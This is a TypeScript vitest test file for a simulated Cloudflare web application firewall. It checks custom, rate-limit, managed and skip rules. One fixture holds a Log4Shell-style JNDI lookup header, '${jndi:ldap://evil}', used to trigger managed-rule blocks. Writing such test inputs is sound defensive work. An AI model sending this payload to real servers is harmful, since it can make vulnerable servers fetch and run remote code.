import { describe, expect, it } from "vitest";
import type { RulesetRule } from "../../../sandbox/clouds/cloudflare/model";
import { createWaf } from "../../../sandbox/edge/waf";
import { rule, type Sent, sent, worldWith } from "./requests";

const custom = "http_request_firewall_custom";
const rateLimit = "http_ratelimit";
const managed = "http_request_firewall_managed";
const freeRuleset = "77454fe2d30c4220b5701f6fdfb893ba";

const answered = async (phases: Record<string, RulesetRule[]>, request: Sent = {}) => {
  const ruling = await createWaf({ world: worldWith(phases), now: () => 0 }).rule(sent(request));
  const reasons = ruling.steps.map(({ by, verdict, reason }) => `${by} ${verdict}: ${reason}`);
  return { ...("response" in ruling ? ruling.response : { status: 0, headers: [], body: "" }), reasons };
};

const one = { characteristics: ["cf.colo.id", "ip.src"], period: 10, requests_per_period: 1, mitigation_timeout: 10 };
const none = { ...one, requests_per_period: 0 };
const execute = rule("managed", { action: "execute", action_parameters: { id: freeRuleset } });
const skip = (parameters: object, fields: object = {}) =>
  rule("skipping", { action: "skip", action_parameters: parameters as Record<string, unknown>, ...fields });
const log4shell: Sent = { headers: [["x", "${jndi:ldap://evil}"]] };

describe("custom rules", () => {
  it("let pass what none of them matches", async () => {
    const { status, reasons } = await answered({ [custom]: [rule("a", { expression: "not ssl" })] });
    expect([status, reasons]).toEqual([0, ["waf pass: no rule stops it"]]);
  });

  it("block with Cloudflare's page, in which nothing of the request is markup", async () => {
    const { status, headers, body, reasons } = await answered({ [custom]: [rule("a")] }, { host: "<i>.example.com" });
    expect([status, reasons]).toEqual([403, [`waf block: ${custom}: block by a`]]);
    expect(Object.fromEntries(headers)["content-type"]).toBe("text/html; charset=UTF-8");
    expect(body).toContain("0123456789abcdef");
    expect(body).toContain("&lt;i&gt;.example.com");
  });

  it("block with an answer of their own", async () => {
    const response = { status_code: 404, content: '{"no":1}', content_type: "application/json" };
    const { status, headers, body } = await answered({ [custom]: [rule("a", { action_parameters: { response } })] });
    expect([status, body]).toEqual([404, '{"no":1}']);
    expect(headers).toContainEqual(["content-type", "application/json; charset=UTF-8"]);
  });

  it.each(["managed_challenge", "js_challenge", "challenge"])("challenge: %s", async (action) => {
    const { status, headers } = await answered({ [custom]: [rule("a", { action })] });
    expect(status).toBe(403);
    expect(headers).toContainEqual(["cf-mitigated", "challenge"]);
  });

  it("only log, and go on", async () => {
    const { status, reasons } = await answered({ [custom]: [rule("a", { action: "log" }), rule("b")] });
    expect([status, reasons]).toEqual([403, [`waf log: ${custom}: log by a`, `waf block: ${custom}: block by b`]]);
  });

  it("do nothing while they are not enabled", async () => {
    expect((await answered({ [custom]: [rule("a", { enabled: false })] })).status).toBe(0);
  });

  it("stop at the first that blocks", async () => {
    expect((await answered({ [custom]: [rule("a"), rule("b")] })).reasons).toEqual([
      `waf block: ${custom}: block by a`,
    ]);
  });
});

describe("phases", () => {
  const all = { [custom]: [rule("c")], [rateLimit]: [rule("r", { ratelimit: none })], [managed]: [execute] };
  it.each([
    [all, custom],
    [{ ...all, [custom]: [] }, rateLimit],
    [{ ...all, [custom]: [], [rateLimit]: [] }, managed],
  ])("follow each other", async (phases, first) => {
    const { reasons } = await answered(phases, log4shell);
    expect(reasons).toHaveLength(1);
    expect(reasons[0]).toContain(`waf block: ${first}: block by`);
  });

  it("know nothing of another zone's rules", async () => {
    const world = worldWith(all);
    for (const ruleset of Object.values(world.state.rulesets)) ruleset.owner = "zones/00000000000000000000000000000000";
    expect(await createWaf({ world }).rule(sent())).toMatchObject({ pass: true });
  });

  it("have nothing to say of what lies in no zone", async () => {
    const request = { ...sent(), zone: undefined };
    expect(await createWaf({ world: worldWith(all) }).rule(request)).toEqual({ pass: true, steps: [] });
  });
});

describe("rules that skip", () => {
  const rest = { [rateLimit]: [rule("r", { ratelimit: none })], [managed]: [execute] };

  it.each([{ ruleset: "current" }, { phase: "current" }])("the remaining rules: %j", async (parameters) => {
    const { status, reasons } = await answered({ [custom]: [skip(parameters), rule("b")] });
    expect(status).toBe(0);
    expect(reasons[0]).toBe(`waf skip: ${custom}: skip by skipping, skips the remaining rules`);
  });

  it("not those before them", async () => {
    expect((await answered({ [custom]: [rule("a"), skip({ ruleset: "current" })] })).status).toBe(403);
  });

  it("only what they match", async () => {
    const rules = [skip({ ruleset: "current" }, { expression: "not ssl" }), rule("b")];
    expect((await answered({ [custom]: rules })).status).toBe(403);
  });

  it("phases, and not the rest of their own", async () => {
    const phases = { [custom]: [skip({ phases: [rateLimit, managed] })], ...rest };
    expect((await answered(phases, log4shell)).status).toBe(0);
    const blocking = { ...phases, [custom]: [...phases[custom], rule("b")] };
    expect((await answered(blocking)).status).toBe(403);
    const onlyOne = { [custom]: [skip({ phases: [rateLimit] })], ...rest };
    expect((await answered(onlyOne, log4shell)).reasons[1]).toContain(managed);
  });

  it("without a word when they are told so", async () => {
    const { reasons } = await answered({ [custom]: [skip({ phases: [rateLimit] }, { logging: { enabled: false } })] });
    expect(reasons).toEqual(["waf pass: no rule stops it"]);
  });

  it("managed rulesets and single managed rules", async () => {
    const headers = "6b1cc72dff9746469d4695a474430f12";
    for (const parameters of [
      { rulesets: [freeRuleset] },
      { rules: { [freeRuleset]: [headers] } },
      { rules: { [freeRuleset]: `x,${headers}` } },
    ]) {
      expect((await answered({ [managed]: [skip(parameters), execute] }, log4shell)).status).toBe(0);
    }
    const other = skip({ rules: { [freeRuleset]: ["0c054d4e4dd5455c9ff8f01efe5abb10"] } });
    expect((await answered({ [managed]: [other, execute] }, log4shell)).status).toBe(403);
  });
});

it("rules that look into the body get it, and a request without one is no fault", async () => {
  const world = worldWith(
    { [custom]: [rule("a", { expression: 'http.request.body.raw contains "evil"' })] },
    "enterprise",
  );
  const waf = createWaf({ world });
  expect(await waf.rule(sent({ method: "POST", body: "so evil" }))).toMatchObject({ pass: false });
  expect(await waf.rule(sent({ method: "POST", body: "so nice" }))).toMatchObject({ pass: true });
  expect(await waf.rule(sent())).toMatchObject({ pass: true });
});
